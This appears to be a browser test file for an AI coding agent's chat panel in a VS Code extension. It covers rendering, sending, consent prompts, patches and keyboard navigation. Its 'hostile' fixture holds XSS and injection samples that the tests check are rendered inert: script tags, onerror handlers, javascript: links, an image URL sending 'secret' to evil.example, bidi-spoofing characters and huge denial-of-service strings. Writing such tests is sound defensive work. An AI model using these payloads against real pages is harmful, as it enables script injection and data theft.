import assert from 'node:assert/strict';
import type { MessageView, ToolView, ToPage } from '../../src/views/chat/messages.ts';
import {
  type ChatPage,
  conversation,
  message,
  openChatPage,
  opened,
  ready,
  text,
} from '../support/chat-page.ts';

const allowed = new Set(
  'A ARTICLE BLOCKQUOTE BR BUTTON CODE DD DEL DETAILS DIV DL DT EM H1 H2 H3 H4 H5 HEADER HR LI MAIN OL P PRE SECTION SPAN STRONG SUMMARY TABLE TBODY TD TEXTAREA TH THEAD TIME TR UL'.split(
    ' ',
  ),
);

const hostile: Readonly<Record<string, string>> = {
  html: '<script>window.pwned = 1</script><img src="https://evil.example/a.png" onerror="window.pwned = 1">\n\n<iframe src="https://evil.example"></iframe>\n\n<style>* { display: none }</style>\n\n<a href="javascript:window.pwned=1">x</a>',
  links:
    '[a](javascript:window.pwned=1) [b](data:text/html,x) [c](command:workbench.action.quit) [d](vscode://x/y) <javascript:alert(1)> [e]: javascript:alert(1)\n\n[e]',
  images:
    '![secret](https://evil.example/?q=secret) ![x](data:image/png;base64,AAAA) [![y](http://evil.example/y.png)](https://evil.example)',
  table: `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(20_000)}`,
  fence: '````\n```js\nnot closed `',
  line: 'x'.repeat(1_000_000),
  code: `\`\`\`ts\n${'y'.repeat(1_000_000)}\n\`\`\``,
  bidi: 'if (admin\u202E \u2066// check\u2069 \u2066) { \u{E0041}\u{E0042}',
  marks: `${'> '.repeat(4_000)}x\n${'*a '.repeat(30_000)}`,
};

describe('the chat’s page in a browser', () => {
  let chat: ChatPage;
  const article = (name: RegExp) => chat.page.getByRole('article', { name }).last();
  const box = () => chat.page.getByRole('textbox', { name: 'Ask the agent' });

  before(async () => {
    chat = await openChatPage();
  });

  after(async () => {
    await chat?.close();
  });

  beforeEach(async () => {
    await chat.page.evaluate('sessionStorage.clear()');
    await chat.reload();
    await chat.say(ready);
  });

  afterEach(() => {
    assert.deepEqual(chat.complaints, []);
    assert.deepEqual(
      chat.requests.filter((url) => !/^\/(?:chat\.(?:js|css)|codicon\.(?:css|ttf\?\w+))?$/.test(url)),
      [],
    );
  });

  for (const [name, source] of Object.entries(hostile)) {
    it(`draws hostile Markdown as text and asks nobody for anything: ${name}`, async () => {
      await chat.say(opened([message('m1', 'assistant', text(source))]));
      await article(/^Agent/).waitFor();
      const { tags, handlers, addresses, styled } = await chat.page.evaluate<{
        tags: string[];
        handlers: string[];
        addresses: string[];
        styled: number;
      }>(`(() => {
        const all = [...document.querySelectorAll('#app *')];
        const attributes = all.flatMap((one) => [...one.attributes]);
        return {
          tags: [...new Set(all.map((one) => one.tagName))],
          handlers: attributes.map(({ name }) => name).filter((name) => name.startsWith('on') || name === 'src' || name === 'srcdoc'),
          addresses: [...new Set(attributes.filter(({ name }) => name === 'href').map(({ value }) => value))],
          styled: document.querySelectorAll('#app style, #app link').length,
        };
      })()`);
      assert.deepEqual(
        tags.filter((tag) => !allowed.has(tag)),
        [],
      );
      assert.deepEqual(handlers, []);
      assert.equal(styled, 0);
      for (const address of addresses) assert.match(address, /^(?:https?:\/\/|#)/);
      assert.equal(await chat.page.evaluate('window.pwned'), undefined);
    });
  }

  it('shows characters that turn text round', async () => {
    await chat.say(opened([message('m1', 'assistant', text(hostile['bidi'] ?? ''))]));
    await article(/^Agent/)
      .getByText('⟨U+202E⟩')
      .waitFor();
    assert.doesNotMatch((await article(/^Agent/).textContent()) ?? '', /[\u202A-\u202E\u2066-\u2069]/);
  });

  it('says where a link leads, and leaves opening it to the extension', async () => {
    const id = '6b1f9d1c-0000-4000-8000-000000000001';
    const words = `[docs](https://evil.example/x) [a.ts:3](parapet:file?path=src%2Fa.ts&line=3) [it](parapet:issue?id=${id})`;
    await chat.say(opened([message('m1', 'assistant', text(words))]));
    await article(/^Agent/)
      .getByText('(evil.example)')
      .waitFor();
    await chat.page.getByRole('link', { name: 'docs' }).click();
    assert.equal((await chat.next('openLink')).url, 'https://evil.example/x');
    await chat.page.getByRole('link', { name: 'a.ts:3' }).click();
    assert.deepEqual(await chat.next('openFile'), { type: 'openFile', path: 'src/a.ts', line: 3 });
    await chat.page.getByRole('link', { name: 'it' }).click();
    assert.equal((await chat.next('openIssue')).issueId, id);
  });

  it('sends with Enter, begins a line with Shift+Enter, and keeps what was not accepted', async () => {
    await box().fill('first');
    await box().press('Shift+Enter');
    await box().pressSequentially('second');
    await box().press('Enter');
    const sent = await chat.next('send');
    assert.deepEqual([sent.text, sent.conversationId, sent.repositoryId], ['first\nsecond', null, 'r1']);
    await chat.say({
      type: 'failed',
      what: 'send',
      message: 'Not now.',
      actions: [{ title: 'Try Again', id: 0 }],
    });
    await chat.page.getByRole('alert').getByText('Not now.').waitFor();
    assert.equal(await box().inputValue(), 'first\nsecond');
    await chat.say({ type: 'accepted' });
    assert.equal(await box().inputValue(), '');
  });

  it('sends with Ctrl+Enter where the setting says so', async () => {
    await chat.say({ type: 'begin', translations: null, sendWith: 'ctrlEnter', isMac: false });
    await box().fill('a');
    await box().press('Enter');
    assert.equal(await box().inputValue(), 'a\n');
    await box().press('Control+Enter');
    assert.equal((await chat.next('send')).text, 'a');
  });

  it('has the draft, the chips and the conversation again after a reload', async () => {
    await chat.say(opened([message('m1', 'user', text('hi'))]));
    await box().fill('half a thought');
    const chip = { label: 'a.ts', detail: 'src/a.ts', value: { kind: 'file', path: 'src/a.ts' } } as const;
    await chat.say({ type: 'chips', chips: [chip] });
    await chat.page.getByRole('button', { name: 'Remove a.ts' }).waitFor();
    await chat.reload();
    assert.equal((await chat.next('ready')).conversationId, 'c1');
    await chat.say(ready, opened([message('m1', 'user', text('hi'))]));
    assert.equal(await box().inputValue(), 'half a thought');
    await chat.page.getByRole('button', { name: 'Remove a.ts' }).click();
    await box().press('Enter');
    assert.deepEqual((await chat.next('send')).attachments, []);
  });

  it('shows the place that was looked at again, and the end of another conversation', async () => {
    const list = Array.from({ length: 40 }, (_, at) =>
      message(`m${at}`, 'assistant', text(`Message ${at}\n\n${'words '.repeat(60)}`)),
    );
    await chat.say(opened(list));
    await chat.page.evaluate('document.querySelector(".messages").scrollTop = 900');
    const where = 'document.querySelector("article[data-key=m6]")?.getBoundingClientRect().top';
    await chat.settled();
    await chat.page.waitForTimeout(400);
    const before = await chat.page.evaluate<number>(where);
    await chat.reload();
    await chat.say(ready, opened(list));
    const after = await chat.page.evaluate<number>(where);
    assert.ok(Math.abs(after - before) <= 2, `${after} instead of ${before}`);
    const others = list.map((one) => ({ ...one, id: `o${one.id}` }));
    await chat.say({ ...opened(others), conversation: { ...conversation, id: 'c2' } });
    await chat.page.getByText('Message 39', { exact: true }).waitFor();
    assert.equal(await chat.page.getByRole('button', { name: 'Go to the End' }).count(), 0);
  });

  it('shows an answer as it comes, says it once when it is whole, and can be stopped', async () => {
    await chat.say(opened([message('m1', 'user', text('hi'))]));
    const begun: MessageView = { ...message('m2', 'assistant'), state: 'streaming' };
    const changes = (...list: Extract<ToPage, { type: 'changes' }>['changes']): ToPage => ({
      type: 'changes',
      conversationId: 'c1',
      changes: list,
    });
    await chat.say(
      changes({ type: 'job', job: { id: 'j1', status: 'RUNNING', stage: 'Reading code', trace: null } }),
      changes({ type: 'message', message: begun }),
    );
    for (const word of ['The ', '**answer**', ' is ', '42.'])
      await chat.say(changes({ type: 'text', messageId: 'm2', part: 0, text: word }));
    await article(/^Agent/)
      .locator('strong', { hasText: 'answer' })
      .waitFor();
    await article(/^Agent/)
      .getByText('Reading code')
      .waitFor();
    const live = chat.page.locator('[aria-live=polite]');
    assert.equal(await live.textContent(), 'The agent is working.');
    await chat.page.getByRole('button', { name: 'Stop' }).click();
    assert.equal((await chat.next('stop')).jobId, 'j1');
    const trace = {
      analyst: 'model',
      model: 'x/y',
      steps: 2,
      toolCalls: 1,
      inputTokens: 900,
      outputTokens: 100,
    } as const;
    const sent = [{ path: 'src/a.ts', bytes: 2_000 }];
    await chat.say(
      changes({
        type: 'job',
        job: { id: 'j1', status: 'COMPLETED', trace: { ...trace, durationMs: 1_500, sent } },
      }),
    );
    await chat.page.getByText('x/y · 1,000 tokens · 1.5 s').click();
    await article(/^Agent/)
      .getByText('src/a.ts')
      .waitFor();
    assert.equal(await live.textContent(), 'The **answer** is 42.');
  });

  it('asks for consent with what will happen, by keyboard, once', async () => {
    const call: ToolView = {
      ...{ id: 't1', name: 'triage', title: 'Triage issues', input: '{}', startedAt: conversation.updatedAt },
      effect: 'service',
      status: 'AWAITING_CONSENT',
      consent: {
        title: 'Mark 2 issues as false positive?',
        detail: '- `a.ts:1`\n- `b.ts:2`',
        confirm: 'Mark',
      },
    };
    await chat.say(
      opened([message('m1', 'user', text('hi')), message('m2', 'assistant', { type: 'tool', call })]),
    );
    const consent = chat.page.getByRole('group', { name: 'Mark 2 issues as false positive?' });
    await consent.getByText('b.ts:2').waitFor();
    await consent.getByRole('button', { name: 'Mark' }).focus();
    await chat.page.keyboard.press('Tab');
    await chat.page.keyboard.press('Enter');
    assert.deepEqual(await chat.next('answer'), {
      ...{ type: 'answer', jobId: 'j1', toolCallId: 't1', isApproved: false },
    });
    assert.ok(await consent.getByRole('button', { name: 'Mark' }).isDisabled());
    await chat.say({ type: 'failed', what: 'act', message: 'The service is gone.', actions: [] });
    await chat.page.locator('.consent button:not([disabled])').first().waitFor();
  });

  it('shows what a tool was given and said, and a patch as a diff', async () => {
    const call: ToolView = {
      ...{ id: 't1', name: 'list', title: 'List issues', input: '{ "severity": "HIGH" }' },
      ...{ startedAt: conversation.updatedAt, finishedAt: conversation.updatedAt },
      effect: 'none',
      status: 'COMPLETED',
      result: { text: '**3** issues', places: [{ label: 'a.ts:4', path: 'src/a.ts', line: 4 }] },
    };
    const patch = { type: 'patch', issueId: 'i1', title: 'Bind the value' } as const;
    await chat.say(opened([message('m2', 'assistant', { type: 'tool', call }, patch)]));
    await chat.page.getByText('List issues').click();
    await chat.page.getByText('"HIGH"').waitFor();
    await chat.page.getByRole('link', { name: 'a.ts:4' }).click();
    assert.equal((await chat.next('openFile')).line, 4);
    const card = chat.page.getByRole('region', { name: 'Patch: Bind the value' });
    const lines = ['@@ -1 +1 @@', '-old', '+new'];
    await chat.say({
      ...{ type: 'patch', issueId: 'i1' },
      patch: {
        state: 'ready',
        text: 'Proven.',
        isProven: true,
        origin: 'Made by rules, without a language model.',
        checks: [
          { label: 'The issue is gone', status: 'PASSED', detail: '' },
          { label: 'The project’s own check', status: 'NOT_RUN', detail: 'It was cancelled.' },
        ],
        needs: [
          { text: 'Before it runs: set the environment variable `ALLOWED_HOSTS`.', name: 'ALLOWED_HOSTS' },
        ],
        files: [{ path: 'src/a.ts', lines, more: 0 }],
      },
    });
    await card.locator('.added', { hasText: '+new' }).waitFor();
    const checks = card.getByRole('list', { name: 'What was checked' }).getByRole('listitem');
    assert.deepEqual(await checks.allInnerTexts(), [
      ' The issue is gone',
      ' The project’s own check (It was cancelled.)',
    ]);
    await card.locator('code', { hasText: 'ALLOWED_HOSTS' }).waitFor();
    await card.getByText('Made by rules').waitFor();
    await card.getByRole('button', { name: 'Apply' }).click();
    const actions = (await chat.heard()).flatMap((one) => (one.type === 'patch' ? one.action : []));
    assert.deepEqual(actions, ['view', 'apply']);
  });

  it('offers to delete a conversation about an issue, and no other', async () => {
    await chat.say(opened([]));
    const bin = chat.page.getByRole('button', { name: 'Delete…' });
    assert.equal(await bin.count(), 0);
    await chat.say({ ...opened([]), conversation: { ...conversation, issueId: 'i1' } });
    await bin.click();
    const { conversationId, issueId } = await chat.next('delete');
    assert.deepEqual([conversationId, issueId], [conversation.id, 'i1']);
    await chat.say({ type: 'deleted', conversationId });
    await chat.page.getByRole('heading', { name: 'Conversations' }).waitFor();
  });

  it('finds conversations by words and by what began them, and puts one away', async () => {
    await chat.page.getByRole('button', { name: 'Conversations' }).click();
    const first = await chat.next('list');
    await chat.say({
      type: 'list',
      query: first.query,
      conversations: [conversation],
      hasMore: true,
      isMore: false,
    });
    await chat.page.getByRole('button', { name: 'Archive: What should I fix first?' }).click();
    assert.ok((await chat.next('archive')).isArchived);
    await chat.page.getByRole('button', { name: 'Show More' }).click();
    assert.ok((await chat.next('list')).isMore);
    await chat.page.getByRole('searchbox').fill('fix');
    assert.equal((await chat.next('list')).query.search, 'fix');
    await chat.page.getByRole('combobox').selectOption('chatTool');
    assert.equal((await chat.next('list')).query.source, 'chatTool');
    await chat.page.getByRole('button', { name: 'Show the archive' }).click();
    assert.ok((await chat.next('list')).query.isArchived);
  });

  it('takes files and rows of the issue tree that are dropped on it', async () => {
    const id = '6b1f9d1c-0000-4000-8000-000000000001';
    const drop = async (data: Readonly<Record<string, string>>) =>
      await chat.page.evaluate(`(() => {
        const transfer = new DataTransfer();
        for (const [type, value] of Object.entries(${JSON.stringify(data)})) transfer.setData(type, value);
        for (const kind of ['dragover', 'drop'])
          document.querySelector('textarea').dispatchEvent(new DragEvent(kind, { dataTransfer: transfer, bubbles: true, cancelable: true }));
      })()`);
    await drop({ 'text/uri-list': 'file:///a.ts\r\nfile:///b.ts#L3' });
    assert.deepEqual(await chat.next('drop'), {
      type: 'drop',
      uris: ['file:///a.ts', 'file:///b.ts#L3'],
      issueIds: [],
    });
    const handles = JSON.stringify({
      id: 'parapet.issues',
      itemHandles: [`0/0:Critical/1/${id}`, `1/${id}`],
    });
    await drop({ 'application/vnd.code.tree.parapet.issues': handles });
    assert.deepEqual((await chat.next('drop')).issueIds, [id]);
    const before = (await chat.heard()).length;
    await drop({ 'text/plain': 'words' });
    assert.equal((await chat.heard()).length, before);
  });

  it('walks along messages with the arrow keys, from the box and back', async () => {
    const list = Array.from({ length: 5 }, (_, at) =>
      message(`m${at}`, at % 2 ? 'assistant' : 'user', text(`word ${at}`)),
    );
    await chat.say(opened(list));
    await box().press('Control+ArrowUp');
    const focused = () => chat.page.evaluate('document.activeElement.dataset.key');
    assert.equal(await focused(), 'm4');
    await chat.page.keyboard.press('ArrowUp');
    await chat.page.keyboard.press('ArrowUp');
    assert.equal(await focused(), 'm2');
    await chat.page.keyboard.press('ArrowDown');
    assert.equal(await focused(), 'm3');
    await chat.page.keyboard.press('Escape');
    assert.equal(await chat.page.evaluate('document.activeElement.id'), 'draft');
  });

  it('says what stands in the way, and what to do about it', async () => {
    const { service } = ready;
    const actions = [{ title: 'Open Folder…', id: 0 }];
    await chat.say({
      type: 'service',
      service: { ...service, state: 'noFolder', message: 'Open one.', actions },
    });
    await chat.page.getByRole('heading', { name: 'No folder is open' }).waitFor();
    assert.ok(await box().isDisabled());
    await chat.page.getByRole('button', { name: 'Open Folder…' }).click();
    assert.equal((await chat.next('act')).id, 0);
  });

  it('asks before code goes to a model on another machine', async () => {
    const asks = { model: 'Big Model', host: 'models.example' };
    const analyst = { kind: 'deterministic', model: '', asks } as const;
    await chat.say({ type: 'service', service: { ...ready.service, analyst } });
    const question = chat.page.getByRole('group', { name: 'Let Big Model answer?' });
    await question.getByText('are then sent to models.example').waitFor();
    await question.getByRole('button', { name: 'Send to models.example' }).click();
    await chat.next('agree');
  });

  it('keeps what is looked at in place when earlier messages come, and asks for them once', async () => {
    const list = (from: number, to: number) =>
      Array.from({ length: to - from }, (_, at) =>
        message(
          `m${from + at}`,
          'assistant',
          text(`Message ${from + at}\n\n${'words '.repeat(((from + at) % 7) * 30)}`),
        ),
      );
    await chat.say(opened(list(50, 100), true));
    await chat.page.getByText('Message 99', { exact: true }).waitFor();
    await chat.page.evaluate('document.querySelector(".messages").scrollTop = 300');
    await chat.next('earlier');
    await chat.page.locator('.earlier').waitFor();
    await chat.settled();
    const where = `document.querySelector('article[data-key=m52]').getBoundingClientRect().top`;
    const before = await chat.page.evaluate<number>(where);
    await chat.say({
      ...{ type: 'earlier', conversationId: 'c1', jobs: [], hasEarlier: false },
      messages: list(0, 50),
    });
    const after = await chat.page.evaluate<number>(where);
    assert.ok(Math.abs(after - before) <= 2, `${after} instead of ${before}`);
    assert.equal((await chat.heard()).filter(({ type }) => type === 'earlier').length, 1);
  });
});
